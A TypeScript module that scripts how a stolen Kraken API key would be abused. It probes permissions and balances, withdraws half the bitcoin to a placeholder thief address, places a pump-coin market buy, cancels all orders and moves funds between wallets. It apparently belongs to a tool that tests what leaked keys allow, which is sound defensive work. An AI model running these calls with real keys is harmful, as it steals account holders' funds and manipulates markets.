import { isJsonFault, isJsonObject, parseJson } from '../../../core/index.ts';
import type { Param, ThiefCall, ThiefHand, ThiefSeen } from '../../front.ts';
import { signKraken } from './auth.ts';

function call(name: string, ...params: Param[]): ThiefCall {
  return { method: 'POST', host: 'api.kraken.com', path: `/0/private/${name}`, params };
}

const order = ['GetApiKeyInfo', 'BalanceEx', 'OpenOrders', 'Withdraw', 'AddOrder', 'CancelAll', 'WalletTransfer'];

/** What someone does with a stolen Kraken key, in the order in which it pays. */
export const krakenThief: ThiefHand = {
  sign: signKraken(order.map((name) => `/0/private/${name}`)),
  worked: (status, body) => {
    const value = parseJson(body);
    return (
      status === 200 &&
      !isJsonFault(value) &&
      isJsonObject(value) &&
      Array.isArray(value['error']) &&
      value['error'].length === 0
    );
  },
  steps: [
    { name: 'probe', calls: () => [call('GetApiKeyInfo'), call('BalanceEx'), call('OpenOrders', ['trades', 'true'])] },
    {
      name: 'withdraw',
      calls: (seen) => [
        call('Withdraw', ['asset', 'XXBT'], ['key', 'the-address-of-the-thief'], ['amount', halfOfBitcoin(seen)]),
      ],
    },
    {
      name: 'buy',
      calls: () => [
        call(
          'AddOrder',
          ['pair', 'PUMPUSDT'],
          ['type', 'buy'],
          ['ordertype', 'market'],
          ['oflags', 'viqc'],
          ['volume', '500'],
        ),
      ],
    },
    { name: 'cancel', calls: () => [call('CancelAll')] },
    {
      name: 'transfer',
      calls: () => [
        call('WalletTransfer', ['asset', 'USDT'], ['from', 'Spot Wallet'], ['to', 'Futures Wallet'], ['amount', '100']),
      ],
    },
  ],
};

/** Half of the bitcoin that the probe saw. */
function halfOfBitcoin(seen: readonly ThiefSeen[]): string {
  const body = seen.find((one) => one.call.path.endsWith('/BalanceEx'))?.body ?? '';
  const value = parseJson(body);
  const result = !isJsonFault(value) && isJsonObject(value) ? value['result'] : undefined;
  const held = isJsonObject(result) ? result['XXBT'] : undefined;
  const balance = isJsonObject(held) ? Number(held['balance']) : 0;
  return balance > 0 ? (balance / 2).toFixed(5) : '0.1';
}
